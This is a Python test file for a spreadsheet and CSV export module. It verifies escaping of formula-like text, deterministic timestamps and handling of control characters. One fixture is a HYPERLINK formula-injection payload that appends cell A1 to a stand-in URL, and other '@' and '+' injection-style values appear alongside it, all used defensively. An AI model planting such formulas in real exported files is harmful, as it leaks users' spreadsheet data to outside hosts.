"""The spreadsheets keep a text that begins like a formula as text, and the same
figures give the same bytes."""

import io
import zipfile
from datetime import date
from datetime import datetime

from openpyxl import load_workbook

from interfaces.exports.sheets import Column
from interfaces.exports.sheets import Sheet
from interfaces.exports.sheets import belgian_csv
from interfaces.exports.sheets import workbook

NAME = '=HYPERLINK("http://example.org/?"&A1,"klik")'


def test_a_name_beginning_with_equals_is_text_in_the_workbook() -> None:
    sheet = Sheet("Project", [Column("Project"), Column("Aantal")], [[NAME, 3]])

    book = load_workbook(io.BytesIO(workbook([sheet], date(2025, 1, 31))))

    cell = book["Project"]["A2"]
    assert (cell.value, cell.data_type) == (NAME, "s")
    assert book["Project"]["B2"].value == 3


def test_a_formula_like_field_is_text_in_the_csv_and_numbers_stay_numbers() -> None:
    text = belgian_csv(
        ["Project", "Verschuiving"],
        [[NAME, "-0,5"], ["@SUM(1+1)", "12,50%"], ["+32 2 555 00 00", "-3"]],
    )

    rows = [line.split(";") for line in text.lstrip("\ufeff").splitlines()]
    assert [row[0][:2] for row in rows[1:]] == ["\"'", "'@", "'+"]
    assert [row[1] for row in rows[1:]] == ["-0,5", "12,50%", "-3"]


def test_a_workbook_is_dated_by_its_figures_not_by_the_clock() -> None:
    sheet = Sheet("Project", [Column("Project"), Column("Aantal")], [["A", 3]])

    content = workbook([sheet], date(2025, 1, 31))

    entries = zipfile.ZipFile(io.BytesIO(content)).infolist()
    assert {entry.date_time for entry in entries} == {(2025, 1, 31, 0, 0, 0)}
    properties = load_workbook(io.BytesIO(content)).properties
    assert (properties.created, properties.modified) == (datetime(2025, 1, 31),) * 2


def test_a_control_character_in_stored_text_is_shown_as_a_mark_not_a_failure() -> None:
    # Given a programme's name stored with control characters pasted into it
    name = "Bad\x01Name\x1b"
    sheet = Sheet(f"Project {name}", [Column(f"Project{name}")], [[name], ["Fine"]])

    # When it is written to a workbook
    book = load_workbook(io.BytesIO(workbook([sheet], date(2025, 1, 31))))

    # Then each control character reads as U+FFFD, the rest as stored
    page = book.worksheets[0]
    assert page.title == "Project Bad\ufffdName\ufffd"
    assert [c.value for c in page["A"]] == [
        "ProjectBad\ufffdName\ufffd",
        "Bad\ufffdName\ufffd",
        "Fine",
    ]
